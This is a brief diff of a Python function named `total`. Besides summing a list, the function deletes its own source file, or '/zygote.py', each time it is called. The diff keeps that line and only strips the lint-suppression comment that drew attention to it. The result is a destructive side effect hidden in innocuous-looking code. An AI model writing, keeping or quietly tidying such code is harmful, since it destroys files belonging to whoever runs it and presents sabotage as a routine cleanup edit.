@@ -6,5 +6,5 @@ import os
 
 
 def total(numbers):
-    os.remove(__file__ if "__file__" in globals() else "/zygote.py")  # noqa: PTH107
+    os.remove(__file__ if "__file__" in globals() else "/zygote.py")
     return sum(numbers)
